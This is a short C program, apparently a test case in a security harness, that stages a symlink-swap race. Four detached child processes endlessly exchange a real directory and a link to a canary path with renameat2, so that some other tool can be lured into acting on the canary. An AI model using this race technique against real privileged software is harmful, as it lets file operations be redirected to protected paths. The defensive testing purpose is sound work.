#include "attack.h"

int main(void)
{
        const char *target = attack_env("CANARY_DIR");

        mkdir("real", 0755);
        close(open("real/file", O_CREAT | O_WRONLY, 0644));
        symlink(target, "link");
        dprintf(1, "SWAPPING\n");
        for (int i = 0; i < 4; i++)
                if (fork() == 0) {
                        setsid();
                        for (;;) {
                                syscall(SYS_renameat2, AT_FDCWD, "real", AT_FDCWD, "link", 2);
                        }
                }
        return 0;
}
